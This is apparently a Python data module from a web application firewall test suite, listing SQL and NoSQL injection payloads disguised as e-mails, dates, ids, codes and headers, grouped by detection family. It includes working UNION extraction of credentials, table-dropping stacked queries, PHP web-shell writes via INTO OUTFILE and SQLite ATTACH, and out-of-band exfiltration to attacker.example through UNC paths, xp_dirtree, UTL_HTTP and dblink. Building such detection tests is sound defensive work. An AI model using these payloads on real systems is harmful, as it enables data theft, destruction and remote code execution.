"""Blind set "hundredthirtyfifth": SQL injection carried inside typed fields (an e-mail address, a phone number, a
date or time, a price or quantity, an id or UUID, a sort key or column name, a page number or limit, a language,
currency, country or time-zone code, a file name, a postcode, a colour, a JSON key, a version string, a user
agent, a hostname, an IP address or a URL), with benign requests that carry the same typed values innocently.

The angle: real applications validate such a field loosely (a regex that only wants an "@" and a dot, a date
parser that reads the leading "2024-05-01" and ignores the rest, an ORDER BY column copied from the query string,
an id that is "numeric enough", a code checked for length only) and then build a query from it. Each payload is
written the way it must look to pass that loose check or to fit its position in the back end's statement: an
e-mail whose local part carries the injection (and whose "@domain" sits behind a comment), a date followed by
SQL, a bare ORDER BY expression, a numeric id with a boolean tail, a LIMIT clause with a PROCEDURE, a version
string that closes its quote, a User-Agent or X-Forwarded-For value that an access logger INSERTs. The comment
above each list names the field type, the statement it reaches and the database (MySQL/MariaDB, PostgreSQL,
Microsoft SQL Server, Oracle, SQLite, MongoDB).

Families (sub-families, one per detection title): libinjection-sqli, sql-tautology-boolean, sql-comment-sequence,
union-select, stacked-queries, time-based-blind, error-based, out-of-band, information-schema-probing,
mysql-comment-obfuscation, function-based-probing, sql-authentication-bypass, nosql-injection,
hex-char-encoding, stored-procedure-xp-cmdshell, having-group-order-by-probing, like-between-in-operators.

Placements: every payload is sent twice, each time in the field it belongs to, under that field's realistic
parameter names (email, contact_email, birth_date, alert_time, max_price, qty, user_id, request_id, sort,
order_by, limit, locale, currency, timezone, filename, postcode, theme_color, fields, app_version, host, website,
username, password, ...). Once to our real routes (query of /api/users, the admin search form with its
csrf_token, JSON of /api/users, a JSON key, an XML body, a multipart field, an upload's file name, a cookie, the
URL path for ids, the admin login form for credentials, the User-Agent, Referer, Accept-Language, X-Api-Version,
X-Request-Id, X-Forwarded-For or X-Forwarded-Host header for the fields that travel there); once the way a WAF
regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) as a query string, form body, JSON body, XML body, cookie,
header, parameter name or upload file name. MongoDB operator documents go as whole JSON bodies and the
bracketed `field[$op]=value` forms as raw query strings or form bodies.

Authorship and independence: written for this repository from general knowledge of SQL and NoSQL injection and
the detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Generator, Iterator
from typing import Any

from .blind_placements import FORM, RS_PATHS, BlindSet, Put, Record, enc, request
from .family_gen import _get, _json
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredthirtyfifth"

# ----------------------------------------------------------------------------------------------------------------
# Payloads: (field type, payload). The field type picks the parameter names and the places it is sent to.
Entry = tuple[str, str]

# --- libinjection-sqli: short string-break + operator shapes, fitted to each field's loose check --------------
LIBINJ: list[Entry] = [
    # e-mail (regex wants "x@y.z" somewhere) -> MySQL/MariaDB `SELECT ... FROM users WHERE email='{v}'`
    ("email", "x'||1#@mail.example.com"),
    ("email", "a@b.co'-0#"),
    ("email", "'+0+'@example.org"),
    ("email", "root@localhost' or 1-- -"),
    ("email", "z@z.io'^0#"),
    # phone (digits, spaces, + and - allowed) -> PostgreSQL `WHERE phone='{v}'`
    ("phone", "+1 555 0100' or '1"),
    ("phone", "+44 20 7946 0958'or 1=1--"),
    # date (parser reads the leading ISO date) -> MySQL `WHERE created_at >= '{v}'`
    ("date", "2024-01-01' or 1 #"),
    ("date", "2024-05-01'and'a'='a"),
    # numeric id ("is_numeric" on the first digits, unquoted) -> MySQL `WHERE id={v}`
    ("id", "7) or (1"),
    ("id", "42 and 1 like 1"),
    ("id", "1-0-- "),
    ("id", "-1 or 0x1"),
    # price (float-ish) -> MySQL `WHERE price <= {v}` (9e0or: the scientific literal ends before `or`)
    ("price", "19.99 or 1"),
    ("price", "9e0or 1=1"),
    ("price", "0.5 || 1"),
    # language code (length not checked) -> MySQL `WHERE locale='{v}'`
    ("lang", "en' or 'x'='x"),
    ("lang", "pt-BR'||'1"),
    # User-Agent INSERTed by an access logger -> MySQL `INSERT INTO visits(ua) VALUES('{v}')`
    ("ua", "Mozilla/5.0'),('x'),('y')-- -"),
    # hostname (tenant lookup) -> MySQL `WHERE domain='{v}'`
    ("host", "shop.example.net' or '1'='1"),
    ("host", "cdn.example.org'||1-- "),
    # version string -> SQLite `WHERE app_version='{v}'`
    ("version", "2.4.1' or 1--"),
    # postcode -> MySQL `WHERE postcode='{v}'`
    ("postcode", "SW1A 1AA' or 1-- "),
    ("postcode", "10115'or'1"),
    # currency code -> PostgreSQL `WHERE currency='{v}'`
    ("currency", "EUR' or 'a'='a"),
    # UUID -> PostgreSQL `WHERE id='{v}'::uuid` (the cast is inside the closed quote)
    ("uuid", "3f2b1c4e-8d9a-4b7c-9e1f-2a3b4c5d6e7f' or '1'='1"),
    # quantity -> MySQL `UPDATE cart SET qty={v} WHERE ...`
    ("qty", "1,price=0"),
    # colour (#rrggbb, only the first char checked) -> MySQL `WHERE theme_color='{v}'`
    ("colour", "#fff' or 2-1-- -"),
]

# --- sql-tautology / boolean: always-true or true/false pairs for boolean-based blind ----------------------------
TAUT: list[Entry] = [
    # numeric id with a boolean tail -> MySQL / PostgreSQL `WHERE id={v}`
    ("id", "1 or 1=1"),
    ("id", "5 AND 1=1"),
    ("id", "5 AND 1=2"),
    ("id", "12 or 2>1"),
    ("id", "3 or true"),
    ("id", "8 and 3-2=1"),
    ("id", "9 OR 'a'='a'"),
    ("id", "1 xor 1"),
    # e-mail whose local part closes the quote -> MySQL `WHERE email='{v}'`
    ("email", "'or 1=1 or''='@example.com"),
    ("email", "x'or'a'='a'or'@example.com"),
    # date, a true/false pair -> MySQL `WHERE day='{v}'`
    ("date", "2024-02-29' AND '1'='1"),
    ("date", "2024-02-29' AND '1'='2"),
    ("date", "2024-03-01' or 'x'<>'y"),
    # price / quantity (unquoted) -> PostgreSQL `WHERE price < {v}`
    ("price", "0 or 5>4"),
    ("price", "10.00 AND 7=7"),
    ("qty", "2 or not 0"),
    # page number (int cast skipped) -> MySQL `... WHERE page_id={v}`
    ("page", "1 and 1=1"),
    # postcode, true/false pair -> MySQL `WHERE zip='{v}'`
    ("postcode", "90210' and 'b'='b"),
    ("postcode", "90210' and 'b'='c"),
    # colour -> SQLite `WHERE color='{v}'`
    ("colour", "red' or 1=1 -- "),
    # currency / country / time zone codes -> PostgreSQL `WHERE code='{v}'`
    ("currency", "USD' AND 1=1 AND 'a'='a"),
    ("country", "GB' or not false-- "),
    ("tz", "Europe/London' or 2=2-- "),
    # URL / hostname -> MySQL `WHERE url='{v}'`
    ("url", "https://example.com/' or '1'='1"),
    ("host", "api.example.com' or 'z'='z"),
    # search box inside LIKE '%{v}%' -> MySQL
    ("search", "laptop%' and 1=1 and '%'='"),
    # status enum -> MySQL `WHERE status='{v}'`
    ("status", "active' or 1=1 or 'x'='y"),
    # UUID -> PostgreSQL
    ("uuid", "00000000-0000-0000-0000-000000000000' or true or '"),
    # phone (digits only, unquoted bigint column) -> MySQL `WHERE phone={v}`
    ("phone", "5550100 or 1=1"),
    # X-Forwarded-For stored by a rate limiter -> MySQL `WHERE ip='{v}'`
    ("ip", "203.0.113.7' or '1'='1"),
]

# --- sql-comment-sequence: comment terminators that cut the rest of the statement --------------------------------
COMMENT: list[Entry] = [
    # e-mail -> MySQL / MSSQL `WHERE email='{v}' AND active=1`
    ("email", "admin@example.com'-- "),
    ("email", "admin@example.com'#"),
    ("email", "admin@example.com'/*"),
    ("email", "ceo@example.com';--"),
    # numeric id -> `WHERE id={v} AND owner_id=7`
    ("id", "1--"),
    ("id", "2/*"),
    ("id", "3 -- -"),
    ("id", "4;--"),
    ("id", "5#"),
    # date -> PostgreSQL `WHERE day >= '{v}' AND tenant=3`
    ("date", "2024-06-01'--"),
    ("date", "2024-06-01' /*"),
    # page / limit -> MySQL `LIMIT {v} OFFSET 0`
    ("page", "10 -- "),
    ("page", "25/*"),
    # sort column -> MySQL `ORDER BY {v} ASC`
    ("sort", "id -- "),
    ("sort", "name#"),
    ("sort", "email/*"),
    # language code -> MySQL `WHERE locale='{v}'`
    ("lang", "fr'-- -"),
    ("lang", "it'#"),
    # country / currency codes -> Oracle and MSSQL
    ("country", "GB'--"),
    ("currency", "EUR';--"),
    # upload file name INSERTed -> MySQL `INSERT INTO uploads(name, owner) VALUES('{v}', 7)`
    ("file", "invoice.pdf',1)-- "),
    ("file", "report.pdf')#"),
    # UUID -> PostgreSQL `WHERE id='{v}' AND deleted=false`
    ("uuid", "a1b2c3d4-0000-4000-8000-000000000001'--"),
    # postcode / version / hostname / phone -> MySQL / SQLite `WHERE col='{v}' AND ...`
    ("postcode", "75001'-- -"),
    ("version", "3.2.1'#"),
    ("host", "mail.example.com'-- "),
    ("phone", "+33 1 23 45 67 89'--"),
    # price (unquoted) -> MySQL `WHERE price <= {v} AND visible=1`
    ("price", "9.99 -- -"),
    # versioned MySQL comment as a terminator
    ("id", "6/*!*/-- "),
]

# --- union-select: append rows to the page's own result --------------------------------------------------------
UNION: list[Entry] = [
    # numeric id -> MySQL / PostgreSQL `SELECT id,name,email FROM users WHERE id={v}`
    ("id", "-1 union select 1,2,3"),
    ("id", "0 UNION ALL SELECT NULL,NULL,NULL--"),
    ("id", "1 union select username,password,3 from users--"),
    ("id", "99999 union select 1,@@version,3"),
    ("id", "-5 UNION SELECT null,version(),null--"),
    ("id", "-1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT 3)c"),
    # e-mail: the comment hides the "@domain" the check wanted -> MySQL `WHERE email='{v}'`
    ("email", "x' union select 1,email,password_hash from accounts-- @example.com"),
    ("email", "nobody' UNION SELECT null,concat(user(),0x3a,database()),null#@x.io"),
    # date -> PostgreSQL `WHERE day='{v}'`
    ("date", "2024-01-01' union all select 1,current_user,3-- "),
    # LIMIT value -> MySQL 5 `... LIMIT {v}`
    ("page", "10 union select 1,2,3"),
    # language code -> MySQL
    ("lang", "en' UNION SELECT 1,2,3,4-- -"),
    ("lang", "es' union distinct select 1,2-- "),
    # currency code -> Oracle `WHERE code='{v}'`
    ("currency", "GBP' UNION SELECT NULL,banner FROM v$version--"),
    ("currency", "JPY' UNION SELECT NULL,NULL FROM dual--"),
    # postcode -> MSSQL `WHERE zip='{v}'`
    ("postcode", "00000' UNION SELECT name,password_hash FROM sys.sql_logins--"),
    # UUID -> PostgreSQL
    ("uuid", "6b1f0c2e-3d4a-4e5f-8a9b-0c1d2e3f4a5b' UNION SELECT usename,passwd FROM pg_shadow--"),
    # website URL -> MySQL `WHERE url='{v}'`
    ("url", "https://a.example/' union select 1,2-- "),
    # search inside LIKE -> MySQL
    ("search", "shoes%' UNION SELECT username, password FROM users-- "),
    # quantity / price (unquoted) -> MySQL
    ("qty", "1 UNION SELECT 1,2,3,4,5,6 --"),
    ("price", "0 union(select 1,2,3)"),
    # colour -> MySQL
    ("colour", "blue' union select 1,group_concat(email) from users#"),
    # version -> SQLite `WHERE app_version='{v}'`
    ("version", "1.2' UNION SELECT sqlite_version(),2--"),
    # phone -> MySQL
    ("phone", "+1' union select card_number,cvv from payments-- "),
    # country code -> MySQL, quote balanced instead of commented
    ("country", "US' UNION ALL SELECT 1,password,3 FROM admins WHERE '1'='1"),
    # time zone -> PostgreSQL
    ("tz", "UTC' union select null,null,null,null--"),
    # User-Agent in a logger's SELECT -> MySQL
    ("ua", "Mozilla/5.0' UNION SELECT 1,2,3-- "),
    # hostname -> MySQL, quote balanced
    ("host", "x.example.com' union select 1,2 from dual where '1'='1"),
    # time of day -> MySQL `WHERE alert_time='{v}'`
    ("time", "07:00' UNION SELECT user,authentication_string FROM mysql.user#"),
]

# --- stacked-queries: a second statement after `;` (PostgreSQL, MSSQL, SQLite, MySQL with multi-statements) ----
STACK: list[Entry] = [
    # numeric id -> PostgreSQL / MSSQL `WHERE id={v}`
    ("id", "1; DROP TABLE users--"),
    ("id", "1;update users set is_admin=1 where id=1--"),
    ("id", "3; INSERT INTO admins(name) VALUES('eve')--"),
    ("id", "2 ; ALTER TABLE users DROP COLUMN email--"),
    ("id", "4;commit;drop table orders;--"),
    # e-mail -> PostgreSQL `WHERE email='{v}'`
    ("email", "a@b.co'; UPDATE users SET password='x' WHERE email='admin@example.com'-- "),
    # date -> PostgreSQL: a table, then a shell through COPY ... TO PROGRAM
    ("date", "2024-01-01'; CREATE TABLE pwn(t text);--"),
    ("date", "2024-01-01'; COPY (SELECT '') TO PROGRAM 'id';--"),
    # sort column -> MSSQL `ORDER BY {v}`
    ("sort", "name; SHUTDOWN WITH NOWAIT--"),
    # page -> PostgreSQL `OFFSET {v}`
    ("page", "10; DELETE FROM sessions--"),
    # language / currency / hostname / UUID codes -> PostgreSQL
    ("lang", "en'; TRUNCATE TABLE audit_log;--"),
    ("currency", "EUR'; ALTER USER postgres WITH PASSWORD 'x';--"),
    ("host", "db.example.com'; DROP DATABASE app;--"),
    ("uuid", "9e107d9d-372b-4b6c-a5a1-aa1b2c3d4e5f'; DELETE FROM api_keys;--"),
    # postcode / colour -> PostgreSQL
    ("postcode", "SW1A'; INSERT INTO users(email,is_admin) VALUES('eve@evil.example',true);--"),
    ("colour", "#000'; UPDATE settings SET value='off' WHERE key='mfa';--"),
    # upload file name INSERTed -> SQLite `INSERT INTO uploads(name) VALUES('{v}')`
    ("file", "report.pdf'); DROP TABLE uploads;--"),
    # version -> MySQL (multi-statements on)
    ("version", "1.0'; SET GLOBAL general_log='ON';--"),
    # time zone -> MySQL
    ("tz", "UTC'; CREATE USER eve IDENTIFIED BY 'pw';--"),
    # quantity -> MySQL `SET qty={v}`
    ("qty", "1; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%'--"),
    # phone -> MSSQL
    ("phone", "555-0199'; UPDATE accounts SET balance=1000000 WHERE id=7;--"),
    # webhook URL -> PostgreSQL
    ("url", "https://x.example/'; INSERT INTO webhooks(url) VALUES('https://evil.example/h');--"),
    # User-Agent INSERTed by the access log -> MSSQL `INSERT INTO log(ua) VALUES('{v}')`
    ("ua", "curl/8.0'); DROP TABLE access_log;--"),
    # numeric id -> SQLite web shell through ATTACH
    ("id", "1; ATTACH DATABASE '/var/www/html/s.php' AS p; CREATE TABLE p.x(t TEXT);"
           " INSERT INTO p.x VALUES('<?php system($_GET[0]);?>');--"),
    # MySQL rename; MSSQL enable a login
    ("id", "6 ; rename table users to users_old--"),
    ("country", "DE'; ALTER LOGIN sa ENABLE;--"),
    # price -> PostgreSQL: a superuser
    ("price", "0; CREATE ROLE eve SUPERUSER LOGIN PASSWORD 'x';--"),
    # alert time -> SQLite
    ("time", "09:00'; UPDATE users SET role='admin';--"),
]

# --- time-based-blind: sleep / benchmark / pg_sleep / waitfor / heavy queries --------------------------------------
TIME: list[Entry] = [
    # numeric id -> MySQL, PostgreSQL, MSSQL, Oracle, SQLite
    ("id", "1 AND SLEEP(5)"),
    ("id", "1 and (select 1 from (select sleep(5))a)"),
    ("id", "1 OR BENCHMARK(5000000,MD5(1))"),
    ("id", "2;SELECT pg_sleep(5)--"),
    ("id", "3 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("id", "4; WAITFOR DELAY '0:0:5'--"),
    ("id", "5 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"),
    ("id", "6 AND 123=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    # e-mail -> PostgreSQL and MySQL
    ("email", "x'||(SELECT pg_sleep(5))||'@example.com"),
    ("email", "a@b.co' AND SLEEP(5)-- -"),
    ("email", "a'XOR(if(now()=sysdate(),sleep(5),0))XOR'z@example.com"),
    # date -> MySQL and MSSQL
    ("date", "2024-01-01' AND IF(1=1,SLEEP(5),0)-- "),
    ("date", "2024-01-01'; WAITFOR DELAY '00:00:05'--"),
    # alert time -> MySQL and PostgreSQL
    ("time", "08:00' and sleep(3)#"),
    ("time", "07:30'||pg_sleep(4)--"),
    # sort column -> MySQL `ORDER BY {v}`, PostgreSQL
    ("sort", "(select sleep(5))"),
    ("sort", "IF(1=1,SLEEP(5),id)"),
    ("sort", "(SELECT CASE WHEN 1=1 THEN pg_sleep(5) END)"),
    # LIMIT -> MySQL 5.x `LIMIT {v}`
    ("page", "1 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,(BENCHMARK(5000000,MD5(0x41))))),1)"),
    # language / currency -> MySQL, PostgreSQL
    ("lang", "en' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)-- "),
    ("currency", "USD';SELECT pg_sleep(10)--"),
    # price -> MySQL
    ("price", "0 or sleep(5)"),
    # UUID -> PostgreSQL conditional delay
    ("uuid", "c0ffee00-0000-4000-8000-000000000000'||(select case when (1=1) then pg_sleep(5) else pg_sleep(0)"
             " end)||'"),
    # User-Agent / Referer / X-Forwarded-For logged -> MySQL
    ("ua", "Mozilla/5.0'+(select*from(select(sleep(20)))a)+'"),
    ("url", "https://example.com/'+sleep(5)+'"),
    ("ip", "1.2.3.4' AND SLEEP(5) AND '1'='1"),
    # hostname -> MSSQL
    ("host", "a.example.com' waitfor delay '0:0:10'--"),
    # postcode -> Oracle heavy query
    ("postcode", "12345' AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3)-- "),
    # file name -> MySQL
    ("file", "a.png' and benchmark(10000000,sha1('x'))#"),
    # colour -> MSSQL conditional
    ("colour", "red'; IF (1=1) WAITFOR DELAY '0:0:5'--"),
    # time zone -> MySQL, quote balanced
    ("tz", "UTC' AND SLEEP(5) AND 'x'='x"),
]

# --- error-based: the value leaks through a conversion or XPath error ----------------------------------------------
ERROR: list[Entry] = [
    # numeric id -> MySQL, MSSQL, PostgreSQL
    ("id", "1 AND extractvalue(1,concat(0x7e,version()))"),
    ("id", "1 and updatexml(1,concat(0x7e,(select user())),1)"),
    ("id", "1 AND 1=CONVERT(int,@@version)"),
    ("id", "1 AND 1=CAST(version() AS int)"),
    ("id", "1 and exp(~(select * from (select user())x))"),
    ("id", "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT database())),1)"),
    ("id", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM "
           "information_schema.tables GROUP BY x)a)"),
    # e-mail -> MySQL
    ("email", "x' and extractvalue(1,concat(0x7e,(select password from users limit 1)))#@example.com"),
    # date -> PostgreSQL and MSSQL
    ("date", "2024-01-01' AND 1=CAST((SELECT current_user) AS int)--"),
    ("date", "2024-01-01' and 1=convert(int,(select top 1 name from sysobjects))--"),
    # sort column -> MySQL `ORDER BY {v}`
    ("sort", "updatexml(1,concat(0x3a,database()),1)"),
    ("sort", "extractvalue(rand(),concat(0x3a,(select user())))"),
    # language -> Oracle
    ("lang", "en' AND CTXSYS.DRITHSX.SN(user,(select banner from v$version where rownum=1))=1--"),
    ("lang", "fr' and 1=utl_inaddr.get_host_name((select user from dual))--"),
    # currency -> Oracle and PostgreSQL
    ("currency", "EUR' AND 1=(SELECT UPPER(XMLTYPE(CHR(60)||CHR(58)||user||CHR(62))) FROM dual)--"),
    ("currency", "USD' and 1=(select cast(version() as numeric))--"),
    # price -> MySQL 5.5 geometry error
    ("price", "1.5 AND polygon((select*from(select*from(select@@version)f)x))"),
    # postcode -> MySQL JSON function error
    ("postcode", "10001' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))-- "),
    # UUID -> PostgreSQL
    ("uuid", "0d9e4b7a-1c2f-4a3b-9c8d-7e6f5a4b3c2d' AND 1=cast((select string_agg(usename,',') from pg_user)"
             " as int)--"),
    # version -> MSSQL
    ("version", "1.0' and 1=convert(int,db_name())--"),
    # User-Agent logged -> MySQL
    ("ua", "Mozilla/5.0' and updatexml(null,concat(0x0a,version()),null) and '1'='1"),
    # hostname -> MSSQL
    ("host", "x.example' AND 4=CONVERT(int,(SELECT SYSTEM_USER))--"),
    # file name -> MySQL
    ("file", "a.jpg' or extractvalue(0,concat(0x2e,@@datadir)) or'"),
    # colour -> MySQL duplicate column name error
    ("colour", "red' union select * from (select name_const(version(),1),name_const(version(),1))a-- "),
    # phone -> MySQL geohash error
    ("phone", "555' AND ST_LatFromGeoHash(version())-- "),
    # search -> MSSQL implicit conversion
    ("search", "q' and 1 in (select @@version)--"),
    # country -> PostgreSQL
    ("country", "FR' AND 1=CAST(current_database()::text AS integer)--"),
    # X-Forwarded-For -> MySQL duplicate entry error
    ("ip", "10.0.0.1' and row(1,1)>(select count(*),concat(user(),floor(rand(0)*2))x from (select 1 union "
           "select 2)a group by x limit 1)-- "),
    # time zone -> PostgreSQL
    ("tz", "UTC' AND 1=(SELECT 1/(SELECT 0 WHERE current_user='postgres'))--"),
]

# --- out-of-band: file read/write and DNS/HTTP/SMB exfiltration ------------------------------------------------------
OOB: list[Entry] = [
    # numeric id -> MySQL load_file over a UNC path (Windows resolves the host)
    ("id", r"1 AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.x.attacker.example\\a'))"),
    ("id", "1 union select load_file('/etc/passwd'),2,3"),
    ("id", "1 union select '<?php system($_GET[c]);?>',2 into outfile '/var/www/html/s.php'"),
    ("id", "-1 union select 0x3c3f7068702073797374656d28245f4745545b305d293b3f3e,2 into dumpfile "
           "'/var/www/html/x.php'"),
    # numeric id -> MSSQL SMB lookups
    ("id", r"1; EXEC master..xp_dirtree '\\attacker.example\share'--"),
    ("id", r"1; exec master.dbo.xp_fileexist '\\x.attacker.example\a'--"),
    ("id", r"1; EXEC master..xp_subdirs '\\oob.attacker.example\s'--"),
    ("id", r"1; BACKUP DATABASE app TO DISK='\\attacker.example\s\a.bak'--"),
    # e-mail -> Oracle UTL_HTTP / UTL_INADDR
    ("email", "x' AND UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--"
              " @example.com"),
    ("email", "y'||UTL_INADDR.GET_HOST_ADDRESS((select user from dual)||'.oob.attacker.example')||'@example.com"),
    # URL field (fetched by the DB) -> Oracle
    ("url", "http://a.example/'||HTTPURITYPE('http://attacker.example/'||user).GETCLOB()||'"),
    ("url", "https://b.example/'||DBMS_LDAP.INIT((SELECT user FROM dual)||'.attacker.example',80)||'"),
    # date -> PostgreSQL COPY TO PROGRAM and dblink
    ("date", "2024-01-01'; COPY (SELECT '') TO PROGRAM 'nslookup x.attacker.example';--"),
    ("date", "2024-01-02' AND (SELECT dblink_connect('host=attacker.example user=a password=b dbname=c'))"
             " IS NULL--"),
    # UUID -> PostgreSQL dblink and file read
    ("uuid", "f47ac10b-58cc-4372-a567-0e02b2c3d479'||(SELECT dblink_send_query('host=oob.attacker.example "
             "dbname=x','SELECT 1'))||'"),
    ("uuid", "1b4e28ba-2fa1-11d2-883f-0016d3cca427' UNION SELECT pg_read_file('/etc/passwd'),null--"),
    # page -> PostgreSQL writes a table to disk, large object import
    ("page", "1; COPY users TO '/tmp/u.csv';--"),
    ("page", "2; SELECT lo_import('/etc/passwd');--"),
    # hostname -> MSSQL OPENROWSET / OPENDATASOURCE to an attacker server
    ("host", "a.example.com'; SELECT * FROM OPENROWSET('SQLNCLI','server=attacker.example;uid=sa;pwd=x',"
             "'select 1');--"),
    ("host", "b.example.com'; SELECT * FROM OPENDATASOURCE('SQLOLEDB','Data Source=attacker.example;User ID=sa;"
             "Password=x').master.dbo.sysdatabases;--"),
    # export file name -> MySQL INTO OUTFILE
    ("file", "users.csv' INTO OUTFILE '/var/www/html/dump.txt'-- "),
    ("file", r"export.csv' INTO OUTFILE '\\\\attacker.example\\share\\a.txt'#"),
    # language code -> SQLite extension from a share
    ("lang", r"en' AND load_extension('\\attacker.example\x\y.dll')--"),
    # version -> MySQL secure_file_priv directory
    ("version", "1.0' AND (SELECT LOAD_FILE('/var/lib/mysql-files/creds.txt')) IS NOT NULL#"),
    # currency -> Oracle DBMS_LDAP / UTL_TCP
    ("currency", "EUR' AND UTL_TCP.OPEN_CONNECTION('attacker.example',4444) IS NOT NULL--"),
    # postcode -> MSSQL xp_dirtree with the data in the host name
    ("postcode", "10001'; DECLARE @h varchar(99);SELECT @h=(SELECT TOP 1 name FROM sys.databases);"
                 "EXEC('master..xp_dirtree \"\\\\'+@h+'.attacker.example\\a\"');--"),
    # colour -> MySQL reading the server's own config
    ("colour", "red' union select load_file('/etc/mysql/my.cnf'),2#"),
    # country -> PostgreSQL server-side directory listing
    ("country", "NL' UNION SELECT pg_ls_dir('/etc'),null--"),
]

# --- information-schema / catalog probing: listing databases, tables, columns and users -----------------------------
CATALOG: list[Entry] = [
    # numeric id -> MySQL information_schema
    ("id", "-1 union select 1,table_name,3 from information_schema.tables where table_schema=database()"),
    ("id", "-1 union select 1,column_name,3 from information_schema.columns where table_name='users'"),
    ("id", "1 and (select count(*) from information_schema.schemata)>1"),
    ("id", "-1 UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata"),
    ("id", "-1 union select 1,table_name,3 from mysql.innodb_table_stats"),
    ("id", "-1 UNION SELECT 1,concat(user,0x3a,host),3 FROM mysql.user"),
    # e-mail -> MySQL
    ("email", "x' union select 1,group_concat(table_name) from information_schema.tables#@example.com"),
    # date -> PostgreSQL pg_catalog
    ("date", "2024-01-01' UNION SELECT tablename,schemaname FROM pg_catalog.pg_tables--"),
    ("date", "2024-01-01' UNION SELECT relname,null FROM pg_class WHERE relkind='r'--"),
    # UUID -> PostgreSQL
    ("uuid", "5e3c1a2b-4d6f-4a8b-9c0d-1e2f3a4b5c6d' UNION SELECT usename,usesuper::text FROM pg_user--"),
    ("uuid", "7a8b9c0d-1e2f-4a3b-8c4d-5e6f7a8b9c0d' UNION SELECT datname,null FROM pg_database--"),
    ("uuid", "2c3d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e6f' UNION SELECT nspname,null FROM pg_namespace--"),
    # postcode -> MSSQL catalog views
    ("postcode", "00000' UNION SELECT name,null FROM sysobjects WHERE xtype='U'--"),
    ("postcode", "11111' UNION SELECT name,null FROM master..sysdatabases--"),
    ("postcode", "22222' UNION SELECT TABLE_NAME,COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS--"),
    ("country", "SE' UNION SELECT name,type_desc FROM sys.tables--"),
    # currency -> Oracle dictionary
    ("currency", "CHF' UNION SELECT table_name,owner FROM all_tables--"),
    ("currency", "NOK' UNION SELECT column_name,data_type FROM user_tab_columns WHERE table_name='USERS'--"),
    ("currency", "DKK' UNION SELECT username,null FROM all_users--"),
    ("lang", "sv' UNION SELECT username,password FROM dba_users--"),
    # version -> SQLite
    ("version", "1.0' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--"),
    ("version", "1.1' UNION SELECT name,type FROM pragma_table_info('users')--"),
    # sort column (subquery in ORDER BY) -> MySQL boolean probe of the catalog
    ("sort", "(select count(*) from information_schema.columns where column_name='password')"),
    # hostname -> MySQL
    ("host", "a.example.com' and (select 1 from information_schema.tables where table_name='admins' limit 1)=1-- "),
    # file name -> MySQL
    ("file", "x.png' union select 1,table_schema from information_schema.tables-- "),
    # time zone -> PostgreSQL information_schema
    ("tz", "UTC' UNION SELECT table_name,null FROM information_schema.tables WHERE table_schema='public'--"),
    # search -> MSSQL
    ("search", "a%' UNION SELECT name,null FROM sys.databases--"),
    # X-Forwarded-For -> MySQL
    ("ip", "127.0.0.1' and (select count(table_name) from information_schema.tables)>50 and '1'='1"),
]

# --- mysql-comment-obfuscation: versioned /*!...*/ comments, inline /**/ and #\n splitting -----------------------
MYCOMMENT: list[Entry] = [
    # numeric id -> MySQL / MariaDB
    ("id", "1/*!50000union*//*!50000select*/1,2,3"),
    ("id", "1 /*!12345UNION SELECT*/ 1,2"),
    ("id", "-1/**/UNION/**/SELECT/**/1,2,3"),
    ("id", "1/*!or*/1=1"),
    ("id", "1 /*!00000and*/ sleep(3)"),
    ("id", "1/*foo*/or/*bar*/1"),
    ("id", "-1 #foo\nunion#bar\nselect 1,2,3"),
    ("id", "-1 -- x\nUNION SELECT 1,2"),
    ("id", "1 /*!44444union*/ /*!44444select*/ 1,user()"),
    ("id", "-1 UN/**/ION SEL/**/ECT 1,2"),
    # e-mail -> MySQL
    ("email", "x'/**/or/**/1#@example.com"),
    ("email", "a@b.co'/*!or*/'1'='1"),
    ("email", "q'/*!50000UnIoN*/(/*!50000SeLeCt*/1,2)#@example.org"),
    # date -> MySQL
    ("date", "2024-01-01'/*!and*/sleep(2)#"),
    ("date", "2024-01-01'/**/and/**/'1'='1"),
    # sort column -> MySQL `ORDER BY {v}`
    ("sort", "id/*!,(select 1)*/"),
    ("sort", "name/**/desc,/**/(select/**/1)"),
    # language / currency -> MySQL
    ("lang", "en'/*!50000union*/all/*!50000select*/1,2-- "),
    ("currency", "EUR'/*!union*//*!select*/user(),2#"),
    ("currency", "GBP'/*!12345or*/1#"),
    # page / LIMIT -> MySQL
    ("page", "1/*!union*/select 1,2"),
    # hostname / postcode / colour -> MySQL
    ("host", "x.example.com'/*!50000and*/1=0/*!50000union*/select 1,2#"),
    ("postcode", "EC1A'/*comment*/or/*comment*/'a'='a"),
    ("colour", "red'/*!50000or*/1#"),
    # User-Agent logged -> MySQL
    ("ua", "Mozilla/5.0'/*!50000and*/(select 1 from(select sleep(3))a)#"),
    # version / uuid / phone -> MySQL (MySQL has no uuid type: a CHAR(36) column)
    ("version", "2.0'/*!and*/'x'/*!=*/'x"),
    ("uuid", "d3b07384-d9a0-4c9b-8f1e-2a3b4c5d6e7f'/*!50000union*/select/**/1,2#"),
    ("phone", "+49 30 123'/*!or*/1-- "),
    # alert time -> MariaDB executable comment
    ("time", "06:45'/*M!and*/sleep(2)#"),
]

